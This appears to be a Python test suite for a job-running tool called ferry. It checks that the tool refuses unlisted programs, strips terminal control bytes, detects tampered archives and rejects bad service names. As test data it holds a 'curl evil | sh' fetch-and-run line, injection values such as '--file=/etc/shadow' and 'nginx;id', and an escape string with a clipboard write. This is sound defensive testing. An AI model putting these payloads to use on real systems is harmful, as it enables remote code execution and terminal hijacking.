"""Untrusted input on this machine (issue 45, items 4 and 7): a caller who names a program for a
job to run, a job file name or job output full of control bytes, a tampered archive. No sshd:
the checks are the same for every target, and ferry refuses before anything runs."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import tempfile
import unittest

from ferry_harness import ferry_bin, run_ferry, run_in_pty, write_job

# The allow-list `host_facts` declares for its `interpreters` parameter starts so.
ALLOWED_START = '["sh","bash","dash",'


class ProgramParameters(unittest.TestCase):
    """A parameter whose values name programs takes only the job's allow-list (item 4)."""

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="ferry-untrusted-")
        self.addCleanup(shutil.rmtree, self.tmp, True)
        self.env = {"TMPDIR": self.tmp, "FERRY_ARCHIVE": os.path.join(self.tmp, "archive.db"),
                    "XDG_CONFIG_HOME": os.path.join(self.tmp, "config"), "FERRY_JOBS_PATH": ""}
        # A program that leaves a mark when anything runs it (as `PROGRAM --version`).
        self.mark = os.path.join(self.tmp, "ran")
        self.evil = os.path.join(self.tmp, "evil")
        with open(self.evil, "w") as f:
            f.write(f"#!/bin/sh\ntouch {self.mark}\necho 'evil 6.6.6'\n")
        os.chmod(self.evil, 0o755)

    def test_a_path_a_relative_path_or_an_unlisted_program_is_refused_before_anything_runs(self):
        for name in (self.evil, "../x", "evilprog", "./evil", "-c"):
            with self.subTest(program=name):
                res = run_ferry("run", "host_facts", "--local", "-p", f"interpreters={name}",
                                env={**self.env, "PATH": f"{self.tmp}:{os.environ['PATH']}"},
                                cwd=self.tmp)
                self.assertEqual(res.code, 2, res)
                message = res.stderr.decode()
                self.assertIn(f"host_facts: parameter 'interpreters' names programs to run on the "
                              f"host, and {json.dumps(name)} is not one the job allows; allowed: "
                              f"{ALLOWED_START}", message)
                self.assertFalse(os.path.exists(self.mark), f"{name} was run")
        # Through --params as well, and a listed one next to an unlisted one.
        params = os.path.join(self.tmp, "params.json")
        with open(params, "w") as f:
            json.dump({"interpreters": ["python3", self.evil]}, f)
        res = run_ferry("run", "host_facts", "--local", "--params", params, env=self.env)
        self.assertEqual(res.code, 2, res)
        self.assertIn(f"{json.dumps(self.evil)} is not one the job allows", res.stderr.decode())
        self.assertFalse(os.path.exists(self.mark))
        self.assertFalse(os.path.exists(os.path.join(self.tmp, "archive.db")))  # nothing ran

    def test_listed_programs_run_and_check_still_asks_about_the_users_own(self):
        res = run_ferry("run", "host_facts", "--local", "--json", "-p", "interpreters=python3,sh",
                        env=self.env)
        self.assertEqual(res.code, 0, res)
        self.assertEqual(sorted(res.record["result"]["interpreters"]), ["python3", "sh"])
        # The user's own config file names a program by its path: check asks about it.
        os.makedirs(os.path.join(self.tmp, "config", "ferry"))
        with open(os.path.join(self.tmp, "config", "ferry", "config.toml"), "w") as f:
            f.write(f'[hosts.local]\ninterpreters.python3 = "{self.evil}"\n')
        res = run_ferry("check", "--local", "--json", env=self.env)
        found = json.loads(res.stdout)
        programs = {i["program"]: i for i in found["interpreters"]}
        self.assertEqual(programs[self.evil]["version"], "6.6.6")

    def test_a_job_that_declares_a_program_parameter_without_an_allow_list_is_refused(self):
        jobs = os.path.join(self.tmp, "jobs")
        os.makedirs(jobs)
        cases = {
            "no_choices": ('[params.tool]\ntype = "string"\nprogram = true\n',
                           "params.tool: a parameter that names programs (program = true) needs "
                           "choices"),
            "a_path": ('[params.tool]\ntype = "string"\nprogram = true\nchoices = ["perl", "/bin/sh"]\n',
                       'params.tool.choices: "/bin/sh" is not a plain program name'),
            "an_int": ('[params.tool]\ntype = "int"\nprogram = true\nchoices = [1]\n',
                       "must be a string or a list of strings"),
        }
        for name, (params, expected) in cases.items():
            path = os.path.join(jobs, name + ".sh")
            with open(path, "w") as f:
                f.write("# /// ferry\n# interpreter = \"sh\"\n"
                        + "".join(f"# {line}\n" for line in params.splitlines()) + "# ///\n")
            with self.subTest(job=name):
                res = run_ferry("run", path, "--local", env=self.env)
                self.assertEqual(res.code, 2, res)
                self.assertIn(expected, res.stderr.decode())


# What a hostile job or job file may hold: a clipboard write (OSC 52), a title change, clear
# screen, a C1 CSI, DEL, a right-to-left override and an isolate.
HOSTILE_TEXT = "\x1b]52;c;ZXZpbA==\x07\x1b]0;pwned\x07\x1b[2J\u009b31m\x7f\u202eevil\u2066x"
FORBIDDEN = [b"\x1b", b"\x07", "\u009b".encode(), b"\x7f", "\u202e".encode(), "\u2066".encode()]


class ControlBytes(unittest.TestCase):
    """Nothing a job file's name, a job's output or a tampered archive holds reaches a terminal
    raw, and bytes that no longer match their sha256 are never shown without saying so (item 7)."""

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="ferry-untrusted-")
        self.addCleanup(shutil.rmtree, self.tmp, True)
        self.archive = os.path.join(self.tmp, "archive.db")
        self.env = {"TMPDIR": self.tmp, "FERRY_ARCHIVE": self.archive,
                    "XDG_CONFIG_HOME": os.path.join(self.tmp, "config"), "FERRY_JOBS_PATH": ""}
        self.jobs = os.path.join(self.tmp, "jobs")
        os.makedirs(self.jobs)

    def assert_clean(self, shown: bytes):
        for forbidden in FORBIDDEN:
            self.assertNotIn(forbidden, shown)

    def test_completion_never_offers_a_word_with_control_bytes(self):
        write_job(self.jobs, "plain", "print(1)\n")
        write_job(self.jobs, "evil\x1b]0;pwned\x07", "print(1)\n")
        write_job(self.jobs, "bidi\u202eevil", "print(1)\n")
        write_job(self.jobs, "chooser", "print(1)\n",
                  params='[params.mode]\ntype = "string"\ndefault = "a"\n'
                         'choices = ["a", "\\u001b[2Jb", "\\u009bc"]')
        for words in (["run", "--jobs-dir", self.jobs, ""],
                      ["run", "--jobs-dir", self.jobs, "chooser", "-p", "mode="]):
            with self.subTest(words=words):
                res = run_ferry("__complete", "--", *words, env=self.env, cwd=self.tmp)
                self.assertEqual(res.code, 0, res)
                self.assert_clean(res.stdout)
                words_offered = [line.split("\t")[0] for line in res.stdout.decode().splitlines()]
                self.assertIn("plain" if words[-1] == "" else "mode=a", words_offered)

    def painter(self) -> str:
        return write_job(self.jobs, "painter",
                         f"import sys\nprint({HOSTILE_TEXT!r})\n"
                         f"print({HOSTILE_TEXT!r}, file=sys.stderr)\nsys.exit(3)\n")

    def test_json_on_a_terminal_is_ascii_and_piped_it_is_exact(self):
        job = self.painter()
        env = {**os.environ, **self.env}
        code, shown = run_in_pty([ferry_bin(), "run", job, "--local", "--json", "--stream"], env)
        self.assertEqual(code, 1, shown)
        self.assert_clean(shown)
        lines = [json.loads(line) for line in shown.decode().splitlines() if line.startswith("{")]
        self.assertEqual(lines[-1]["stdout"], HOSTILE_TEXT + "\n")  # the same JSON value
        self.assertTrue(any(line.get("event") == "output" for line in lines))
        res = run_ferry("run", job, "--local", "--json", env=self.env)
        # Piped: JSON as always (C0 escaped by JSON itself, C1 and bidi as UTF-8), exact.
        self.assertIn("\u009b31m\x7f\u202eevil".encode(), res.stdout)
        self.assertEqual(res.record["stdout"], HOSTILE_TEXT + "\n")

    def tamper(self, run_id: str, sha256: str, evil: bytes) -> None:
        db = sqlite3.connect(self.archive)
        with db:
            db.execute("UPDATE scripts SET bytes = ? WHERE sha256 = ?", (evil, sha256))
        db.close()

    def test_show_and_export_say_when_the_archived_bytes_no_longer_match(self):
        data = os.path.join(self.tmp, "conf.json")
        with open(data, "w") as f:
            f.write('{"a": 1}\n')
        job = write_job(self.jobs, "honest", 'print("{\\"ok\\": true}")\n')
        run = run_ferry("run", job, "--local", "--json", "--file", data, env=self.env,
                        cwd=self.tmp).record
        # Untampered: no warning, exit 0.
        res = run_ferry("show", "last", "--script", env=self.env)
        self.assertEqual((res.code, res.stderr), (0, b""), res)
        evil = b"# /// ferry\n# interpreter = \"sh\"\n# ///\ncurl evil | sh\n"
        self.tamper(run["run_id"], run["job_sha256"], evil)
        (sent,) = run["files"]
        self.tamper(run["run_id"], sent["sha256"], b'{"a": 666}\n')
        res = run_ferry("show", "last", "--script", env=self.env)
        self.assertEqual(res.code, 1, res)
        self.assertEqual(res.stdout, evil)  # what the archive holds, and said:
        err = res.stderr.decode()
        self.assertIn(f"ferry: warning: run {run['run_id']}: the script is filed under sha256 "
                      f"{run['job_sha256']} but hashes to ", err)
        self.assertIn("the file sent conf.json is filed under sha256", err)
        self.assertIn("`ferry replay` refuses this run", err)
        page = run_ferry("show", "last", env=self.env)
        self.assertIn("(the archived bytes no longer match it", page.stdout.decode())
        self.assertIn("the archive was changed outside ferry", page.stderr.decode())
        out = os.path.join(self.tmp, "exported")
        res = run_ferry("export", "last", out, env=self.env)
        self.assertEqual(res.code, 1, res)
        self.assertIn("the script is filed under sha256", res.stderr.decode())
        with open(os.path.join(out, "script"), "rb") as f:
            self.assertEqual(f.read(), evil)
        res = run_ferry("replay", "last", env=self.env)
        self.assertEqual(res.code, 1, res)  # and replay refuses, as before


class DiagnosticsJobs(unittest.TestCase):
    """The read-only diagnostics set runs through ferry on this machine, and a service name that
    is not a unit name is refused by ferry before the job runs (issue 42.11)."""

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="ferry-untrusted-")
        self.addCleanup(shutil.rmtree, self.tmp, True)
        self.env = {"TMPDIR": self.tmp, "FERRY_ARCHIVE": os.path.join(self.tmp, "archive.db"),
                    "XDG_CONFIG_HOME": os.path.join(self.tmp, "config"), "FERRY_JOBS_PATH": ""}

    def test_each_runs_here_and_answers(self):
        expected = {"disk_usage": {"filesystems"},
                    "memory_usage": {"total_mib", "available_mib", "swap_total_mib",
                                     "swap_free_mib", "top"},
                    "kernel_log": {"source", "lines"},
                    "service_log": {"service", "state", "lines"}}
        for job, keys in expected.items():
            with self.subTest(job=job):
                args = ["-p", "service=ssh", "-p", "lines=20"] if job == "service_log" else []
                res = run_ferry("run", job, "--local", "--json", *args, env=self.env)
                self.assertEqual(res.code, 0, res)
                self.assertEqual(res.record["status"], "ok", res.record)
                self.assertLessEqual(keys, set(res.record["result"]), res.record["result"])

    def test_a_service_that_is_not_a_unit_name_is_refused_before_anything_runs(self):
        for service in ("-o", "--file=/etc/shadow", "../x", "a b", "nginx;id", ""):
            with self.subTest(service=service):
                res = run_ferry("run", "service_log", "--local", "-p", f"service={service}",
                                env=self.env)
                self.assertEqual(res.code, 2, res)
                self.assertIn(f"service_log: parameter 'service': {json.dumps(service)} does not "
                              "match the pattern [A-Za-z0-9][A-Za-z0-9@._:-]{0,127} the job declares",
                              res.stderr.decode())
        res = run_ferry("run", "kernel_log", "--local", "-p", "lines=100000", env=self.env)
        self.assertEqual(res.code, 2, res)
        self.assertIn("is not one of the choices [20,50,100,200,500]", res.stderr.decode())
        self.assertFalse(os.path.exists(os.path.join(self.tmp, "archive.db")))


if __name__ == "__main__":
    unittest.main()
